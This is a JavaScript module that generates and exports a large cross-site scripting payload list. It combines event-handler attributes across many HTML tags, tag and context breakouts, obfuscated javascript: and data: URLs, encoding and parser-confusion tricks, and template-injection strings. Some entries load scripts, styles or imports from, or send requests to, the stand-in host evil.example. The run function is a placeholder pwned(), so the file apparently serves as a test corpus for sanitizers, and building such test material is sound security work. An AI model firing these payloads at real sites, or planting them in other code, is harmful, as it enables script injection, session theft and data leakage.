// Public shapes of script injection: tags, attributes and contexts, combined. What they would run is `pwned()`.

const run = "pwned()";
const tags = ["img", "svg", "body", "video", "audio", "input", "details", "iframe", "object", "marquee", "select", "textarea", "math", "style", "x"];
const events = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onclick", "onanimationstart", "onpointerenter"];
const before = ["", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "]]>", "`>"];

const attributes = tags.flatMap((tag) => events.map((event) => `<${tag} src=x autofocus open ${event}=${run}>`));
const escapes = before.flatMap((end) => [`${end}<script>${run}</script>`, `${end}<img src=x onerror=${run}>`, `${end}<svg/onload=${run}//`]);
const addresses = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\u0001javascript:", "&#106;avascript:", "jav&#x0A;ascript:", "vbscript:", "data:text/html,"].flatMap((scheme) => [
  `<a href="${scheme}${run}">x</a>`,
  `<iframe src="${scheme}${run}">`,
  `<form action="${scheme}${run}"><button>x</button></form>`,
  `<object data="${scheme}${run}">`,
  `${scheme}${run}//https://`,
]);
const values = ['" ', "' ", "` ", " ", "/", "\n", "\t", "\f"].flatMap((end) => events.slice(0, 5).map((event) => `${end}${event}=${run} x=${end}`));
const outside = ["img src", "script src", "link rel=stylesheet href", "iframe src", "video poster", "input type=image src", "embed src", "base href", "object data", "body background"].flatMap((tag) => [
  `<${tag}=//evil.example/x>`,
  `"><${tag}=https://evil.example/x>`,
]);
const odd = [
  "<style>@import '//evil.example/x.css';</style>",
  "<style>*{background:url(//evil.example/x)}</style>",
  "<div style=\"background:url(//evil.example/x)\">x</div>",
  "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
  "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>pwned()</script></svg>#x\">",
  "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:pwned()><text y=9>x",
  "<math><mi xlink:href=javascript:pwned()>x",
  "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
  "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\">",
  "<template><script>pwned()</script></template>",
  "<iframe srcdoc=\"<script>parent.pwned()</script>\">",
  "<scr<script>ipt>pwned()</scr</script>ipt>",
  "<\u0000script>pwned()</script>",
  "<script\u2028>pwned()</script>",
  "\u202e<script>pwned()</script>",
  "<%00script>pwned()</script>",
  "%3Cscript%3Epwned()%3C/script%3E",
  "&lt;script&gt;pwned()&lt;/script&gt;",
  "&#60;script&#62;pwned()&#60;/script&#62;",
  "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
  "\\x3cscript\\x3epwned()\\x3c/script\\x3e",
  "${pwned()}",
  "{{constructor.constructor('pwned()')()}}",
  "{% raw %}<script>pwned()</script>",
  "<x contenteditable onblur=pwned()>lose focus</x>",
  "<portal src=javascript:pwned()>",
  "<isindex type=image src=1 onerror=pwned()>",
  "<!--[if IE]><script>pwned()</script><![endif]-->",
  "<!--><script>pwned()</script>-->",
  "<?xml-stylesheet href=javascript:pwned()?>",
  "<![CDATA[<script>pwned()</script>]]>",
  "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
  "<dialog open onclose=pwned()><form method=dialog><button>x",
  "<button popovertarget=x>x</button><div id=x popover onbeforetoggle=pwned()>x</div>",
  "<details ontoggle=pwned() open>x",
  "<svg><set attributeName=onmouseover to=pwned()>",
  "<svg><foreignObject><body onload=pwned()>",
  "<svg><style><img src=x onerror=pwned()></style>",
  "<table><td background=javascript:pwned()>",
  "<frameset onload=pwned()>",
  "<a href=\"//evil.example\" ping=\"//evil.example/p\">x</a>",
  "<img srcset=\"//evil.example/x 1x\">",
  "<link rel=preload as=image href=//evil.example/x>",
  "<script>fetch('//evil.example')</script>",
  "<script type=module>import '//evil.example/x.js'</script>",
  "<script src=data:text/javascript,pwned()></script>",
  "<style onload=pwned()></style>",
  "<option value=\"</option></select><img src=x onerror=pwned()>\">",
];

export const shapes = [...attributes, ...escapes, ...addresses, ...values, ...outside, ...odd];
